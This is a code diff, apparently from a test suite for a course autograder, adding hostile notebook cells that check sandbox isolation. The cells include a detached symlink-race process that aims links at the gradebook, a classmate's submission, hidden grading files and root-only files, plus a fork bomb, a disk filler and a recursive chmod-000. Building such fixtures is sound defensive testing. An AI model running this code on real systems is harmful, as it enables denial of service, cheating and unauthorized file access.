@@ -1006,6 +1006,141 @@ def softmax(xs):
 """,
     ),
 ]
+
+# Races: learner processes that outlive their cell and aim at what the grader writes next.
+# tests/test_hostile_lanes.py grades them (with one honest victim) through every lane.
+OUTSIDE = "/tmp/attention-hostile-outside"  # canaries outside the course: one root-only (0600)
+RACES = [
+    Attack(
+        "r-race-links",
+        C,
+        "races",
+        "a detached process (double fork, setsid, signals ignored) that for 90 s keeps replacing "
+        "every name it can reach (its folder, its kernel's socket folder and the one above) with "
+        "links to the gradebook, a classmate's model.py, grading/hidden.py, the reference and "
+        "two files outside the course, and chmods those folders 0777",
+        cell="""
+import os, signal, sys, time
+def _race():
+    names = [f"0{k}-{n}.ipynb" for k, n in enumerate(
+        ["softmax", "attention", "causal-mask", "multi-head", "positional-encoding",
+         "layer-norm", "block", "notes"], 1)] + ["model.py", "outputs", "kernel.json", "made-up"]
+    targets = ["__ROOT__/gradebook.db", "__ROOT__/submitted/correct/attention/model.py",
+               "__ROOT__/grading/hidden.py", "__ROOT__/model.py",
+               "__OUTSIDE__/root-only", "__OUTSIDE__/plain"]
+    places = {os.getcwd()}
+    if "-f" in sys.argv[:-1]:
+        sockets = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
+        places |= {sockets, os.path.dirname(sockets)}
+    k, deadline = 0, time.time() + 90
+    while time.time() < deadline:
+        for place in places:
+            try:
+                seen = os.listdir(place)
+            except OSError:
+                seen = []
+            for name in names + seen:
+                k += 1
+                link = os.path.join(place, f".l{k}")
+                try:
+                    os.symlink(targets[k % len(targets)], link)
+                    os.replace(link, os.path.join(place, name))
+                except OSError:
+                    pass
+            try:
+                os.chmod(place, 0o777)
+            except OSError:
+                pass
+        time.sleep(0.0005)
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        with open("/proc/self/comm", "w") as f:
+            f.write("HOSTILE-racer")  # the test finds what is left by this name
+        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+            signal.signal(s, signal.SIG_IGN)
+        try:
+            _race()
+        finally:
+            os._exit(0)
+    os._exit(0)
+print("racing")
+""",
+    ),
+    Attack(
+        "r-fork-bomb",
+        C,
+        "races",
+        "forks until the process limit and keeps every child alive, detached, ignoring SIGTERM",
+        cell="""
+import os, signal, time
+children = 0
+try:
+    while children < 1000:
+        if os.fork() == 0:
+            os.setsid()
+            signal.signal(signal.SIGTERM, signal.SIG_IGN)
+            with open("/proc/self/comm", "w") as f:
+                f.write("HOSTILE-bomb")  # the test finds what is left by this name
+            while True:
+                time.sleep(1)
+        children += 1
+except OSError:
+    pass
+print("children held at the limit:", children)
+""",
+    ),
+    Attack(
+        "r-disk-fill",
+        C,
+        "races",
+        "writes 16 files of 63 MiB (under the file-size cap) into each folder it can write",
+        cell="""
+import os
+written = 0
+for place in (".", "/tmp", "/var/tmp", "/dev/shm"):
+    for k in range(16):
+        try:
+            with open(os.path.join(place, f"HOSTILE-fill-{k}"), "wb") as f:
+                for _ in range(63):
+                    f.write(bytes(1 << 20))
+                    written += 1
+        except OSError:
+            break
+print("MiB written:", written)
+""",
+    ),
+    Attack(
+        "r-chmod-folder",
+        C,
+        "races",
+        "chmods its working folder and everything in it to 000 (and tries its parents)",
+        cell="""
+import os
+for here, dirs, files in os.walk(".", topdown=False):
+    for name in dirs + files:
+        try:
+            os.chmod(os.path.join(here, name), 0)
+        except OSError:
+            pass
+for folder in (".", "..", "/handed-in"):
+    try:
+        os.chmod(folder, 0)
+    except OSError:
+        pass
+""",
+    ),
+    Attack(
+        "r-killed-kernel",
+        C,
+        "races",
+        "kills its own kernel (SIGKILL) in notebook 1's first cell",
+        cell="""
+import os, signal
+os.kill(os.getpid(), signal.SIGKILL)
+""",
+    ),
+]
 # ──────────────────────────────────────── end of the table ───────────────────────────────────────
 
 EVERYONE = ATTACKS + NOISE
@@ -1185,6 +1320,7 @@ def fill(text, attack, root, port):
         text.replace("__ROOT__", root)
         .replace("__PORT__", str(int(port)))
         .replace("__STUDENT__", attack.student)
+        .replace("__OUTSIDE__", OUTSIDE)
         .replace("__CANARY__", canary(attack.student))
         .replace("__KNOWN__", repr(known_answers()) if "__KNOWN__" in text else "")
     )
